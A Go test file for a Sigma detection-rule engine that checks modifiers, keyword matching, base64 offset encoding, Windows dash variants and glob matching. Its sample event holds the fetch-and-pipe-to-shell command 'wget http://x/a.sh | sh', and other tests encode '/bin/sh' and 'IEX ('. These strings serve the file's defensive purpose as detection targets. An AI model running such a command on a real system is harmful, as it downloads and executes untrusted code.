package sigma

import (
	"encoding/base64"
	"slices"
	"strings"
	"testing"
)

// Ensure each modifier means what the specification says.
func TestModifiers(t *testing.T) {
	event := fields{{"/usr/bin/Bash"}, {`run -enc /f:x Zm9vYmFy äÖ`}, {"/USR/bin"}, {"10.1.2.3", "2001:db8::1"}, {"8080"}, {"EXECVE", "PATH"}}
	for _, tt := range []struct {
		detection string
		want      bool
	}{
		{"s: {Port|gt: 1024}\n  condition: s", true},
		{"s: {Port|lte: 8079.5}\n  condition: s", false},
		{"s: {Port|gte: 8080, Port|lte: 8080}\n  condition: s", true},
		{"s: {Port|lt: '8081'}\n  condition: s", true},
		{"s: {Image|gt: 1}\n  condition: s", false},
		{"s: {Port: 0x1F90}\n  condition: s", true},
		{"s: {Ip|cidr: 2001:db8::/32}\n  condition: s", true},
		{"s: {Ip|cidr: [192.0.2.0/24, 10.1.2.3]}\n  condition: s", true},
		{"s: {Image|fieldref|startswith: User}\n  condition: s", true},
		{"s: {Image|fieldref|startswith|cased: User}\n  condition: s", false},
		{"s: {Image|fieldref: User}\n  condition: s", false},
		{"s: {User|fieldref: User}\n  condition: s", true},
		{"s: {CommandLine|fieldref|contains: User}\n  condition: s", false},
		{"s: {CommandLine|windash|contains: ' /enc '}\n  condition: s", true},
		{"s: {CommandLine|windash|contains: ' -f'}\n  condition: s", true},
		{"s: {CommandLine|windash|contains|all: [' -f', ' /g']}\n  condition: s", false},
		{"s: {CommandLine|base64|contains: foobar}\n  condition: s", true},
		{"s: {CommandLine|contains: ÄÖ}\n  condition: s", true},
		{"s: {CommandLine|contains|cased: Äö}\n  condition: s", false},
		{"s: {CommandLine|endswith: '?ö'}\n  condition: s", true},
		{"s: {CommandLine: '*y ??'}\n  condition: s", true},
		{"s: {CommandLine: '*y ???'}\n  condition: s", false},
		{"s: {Image|neq: /bin/sh}\n  condition: s", true},
		{"s: {Image|neq: [/bin/sh, /usr/bin/bash]}\n  condition: s", false},
		{"s: {CommandLine|re|i: ' -ENC '}\n  condition: s", true},
		{"s: {CommandLine|re: 'run.*FOO|zz'}\n  condition: s", false},
		{"s: {Kind: path}\n  condition: s", true},
		{"s: {Kind|all: [path, execve]}\n  condition: s", true},
		{"s: {Kind: TTY}\n  r: {Image: '*'}\n  condition: s or r", true},
		{"s: {Kind: TTY}\n  r: {Image: '*'}\n  condition: not s and r", true},
		{"s: {Image: ''}\n  condition: not s", true},
		{"s: {Image: null}\n  condition: s", false},
		{"a: {User: x}\n  b: {Port: 8080}\n  c: {Kind: PATH}\n  condition: 2 of them", true},
		{"a: {User: x}\n  b: {Port: 8080}\n  c: {Kind: PATH}\n  condition: 3 of them", false},
		{"a: {User: x}\n  b: {Port: 8080}\n  c: {Kind: PATH}\n  condition: any of a* or not all of them", true},
		{"a: {User: x}\n  b: {Port: 8080}\n  condition: not 1 of a* and ((b))", true},
		{"a: {User: x}\n  b: {Port: 8080}\n  condition: not not b", true},
		{"s: {CommandLine: 'run -enc*'}\n  condition: S or s", true},
		{`s: {User|contains: 'R\\bin'}` + "\n  condition: not s", true},
	} {
		// Names of searches are exact, so that "S" is refused.
		if strings.Contains(tt.detection, "S or s") {
			if _, err := Parse("t.yml", []byte("title: T\nlogsource: {category: process_creation}\ndetection:\n  "+tt.detection)); err == nil {
				t.Errorf("a search of another case was taken")
			}
			continue
		}
		if got := compile(t, "  "+tt.detection).Match(event); got != tt.want {
			t.Errorf("got %v, want %v for\n%s", got, tt.want, tt.detection)
		}
	}
}

// Ensure bare words are looked for anywhere in the texts of a record.
func TestKeywords(t *testing.T) {
	event := fields{{"/usr/bin/Bash"}, {`wget http://x/a.sh | sh`}}
	for detection, want := range map[string]bool{
		"k: [wget, nothing]\n  condition: k":                            true,
		"k: ['wget*| SH']\n  condition: k":                              true,
		"k: [BASH]\n  condition: k":                                     true,
		"k: {'|all': [bash, wget]}\n  condition: k":                     true,
		"k: {'|all': [bash, nothing]}\n  condition: k":                  false,
		"k: {'|re': '^wget .*sh$'}\n  condition: k":                     true,
		"k: {'|startswith': wget}\n  condition: k":                      true,
		"k: {'|endswith': wget}\n  condition: k":                        false,
		"k: {'|cased': BASH}\n  condition: k":                           false,
		"k: [nothing]\n  condition: not k":                              true,
		"k: [404, true]\n  condition: k":                                false,
		"k: ['a.sh', {'|all': [x, nothing]}]\n  condition: k":           true,
		"k: {'|all': [x, nothing]}\n  l: [wget]\n  condition: k or l":   true,
		"k: {'|all': [x, nothing]}\n  l: [wget]\n  condition: k and l":  false,
		"k: {'|base64offset|contains': [abc]}\n  condition: k":          false,
		"k: {'|contains|all': ['http://', '.sh']}\n  condition: 1 of k": true,
	} {
		rule, err := Parse("t.yml", []byte("title: T\nlogsource: {product: linux, service: syslog}\ndetection:\n  "+detection))
		if err != nil {
			t.Fatalf("%v\n%s", err, detection)
		}
		m, err := Compile(rule, testSchema)
		if err != nil {
			t.Fatalf("%v\n%s", err, detection)
		}
		if got := m[0].Match(event); got != want {
			t.Errorf("got %v, want %v for\n%s", got, want, detection)
		}
	}
}

// Ensure what stands for base64 is in each encoding of what has the text in it, wherever.
func TestBase64Offset(t *testing.T) {
	if got := innerBase64([]byte("foobar")); !slices.Equal(got, []string{"Zm9vYmFy", "Zvb2Jhc", "mb29iYX"}) {
		t.Errorf("got %q", got)
	}
	for _, text := range []string{"a", "ab", "abc", "/bin/sh", "IEX (", "ä"} {
		for _, encoding := range []string{"", "utf16le", "utf16be", "utf16", "wide"} {
			plain := encode(text, encoding)
			for before := range 7 {
				for after := range 4 {
					all := slices.Concat([]byte("0123456")[:before], plain, []byte("xyz\x00")[:after])
					encoded := base64.StdEncoding.EncodeToString(all)
					if !slices.ContainsFunc(innerBase64(plain), func(inner string) bool { return strings.Contains(encoded, inner) }) {
						t.Errorf("%q as %q is not seen in %q", text, encoding, encoded)
					}
				}
			}
		}
	}
	if got := string(encode("aÄ", "utf16")); got != "\xff\xfea\x00\xc4\x00" {
		t.Errorf("utf16: got %q", got)
	}
	if got := string(encode("aÄ", "utf16be")); got != "\x00a\x00\xc4" {
		t.Errorf("utf16be: got %q", got)
	}
}

// Ensure a dash stands for all kinds of it where an option begins, and nowhere else.
func TestWindash(t *testing.T) {
	texts := func(s string) (out []string) {
		for _, g := range windash(parseGlob(s)) {
			text := ""
			for _, p := range g {
				switch {
				case p.many:
					text += "*"
				case p.one:
					text += "?"
				default:
					text += p.literal
				}
			}
			out = append(out, text)
		}
		return out
	}
	for in, want := range map[string]string{
		"-f":       "-f /f –f —f ―f",
		"a-b":      "a-b",
		"*/x":      "*/x *-x *–x *—x *―x",
		"x -":      "x -",
		"?-x":      "?-x",
		"\xff-f y": "\xff-f y|\xff/f y|\xff–f y|\xff—f y|\xff―f y",
	} {
		got := texts(in)
		wanted := strings.Split(want, " ")
		if strings.Contains(want, "|") {
			wanted = strings.Split(want, "|")
		} else if strings.Contains(in, " ") {
			wanted = []string{want}
		}
		slices.Sort(got)
		slices.Sort(wanted)
		if !slices.Equal(got, wanted) {
			t.Errorf("%q: got %q, want %q", in, got, wanted)
		}
	}
	if got := len(texts("-a -b -c")); got != 125 {
		t.Errorf("three options: %d texts", got)
	}
}

// Ensure a question mark is one character, however many bytes that has.
func TestCharacter(t *testing.T) {
	for _, tt := range []struct {
		glob, text string
		want       bool
	}{
		{"*??", "€", false}, {"?", "€", true}, {"*?", "€", true}, {"??", "a€", true}, {"*€?", "x€", false},
		{"??", "\xe2\x82", true}, {"?", "\xe2\x82", false}, {"*?x", "€x", true},
	} {
		if got := newText(0, parseGlob(tt.glob), true).(text).one(tt.text); got != tt.want {
			t.Errorf("%q on %q: got %v", tt.glob, tt.text, got)
		}
	}
}
